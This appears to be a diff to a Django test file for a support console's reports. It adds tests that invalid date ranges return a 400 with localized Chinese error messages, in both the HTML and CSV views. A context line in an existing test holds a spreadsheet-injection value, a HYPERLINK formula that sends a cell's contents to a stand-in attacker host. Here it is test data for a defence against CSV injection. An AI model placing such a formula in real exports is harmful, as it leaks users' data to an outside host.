@@ -207,3 +207,26 @@ def test_a_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text():
         "agent": '\'=HYPERLINK("http://evil.example/?x="&B2,"mallory")',
         "team": "'@SUM(1+1)",
     }
+
+
+@pytest.mark.parametrize(
+    ("query", "reason"),
+    [
+        ({"from": "2026-12-07", "to": "2026-12-01"}, "结束日期早于开始日期。"),
+        ({"from": "2026-13-01"}, "日期请写成 YYYY-MM-DD，例如 2026-12-01。"),
+        ({"from": "x"}, "日期请写成 YYYY-MM-DD，例如 2026-12-01。"),
+        ({"from": "2020-01-01", "to": "2026-12-01"}, "请选择不超过 366 天的范围。"),
+    ],
+)
+def test_a_range_that_cannot_be_read_shows_the_default_report_with_the_reason(query, reason):
+    """Python's own "month must be in 1..12" once came back as a plain-text page, in English
+    for a Chinese admin (an analytics walk)."""
+    client = Client()
+    client.force_login(make_agent("ann"))
+    page = client.get("/console/reports/", query, HTTP_ACCEPT_LANGUAGE="zh-hans")
+    assert page.status_code == 400
+    assert reason in page.content.decode()
+    today = timezone.localdate()
+    assert f'value="{today.isoformat()}"' in page.content.decode(), "the default range"
+    csv_answer = client.get("/console/reports.csv", query, HTTP_ACCEPT_LANGUAGE="zh-hans")
+    assert (csv_answer.status_code, csv_answer.content.decode()) == (400, reason)
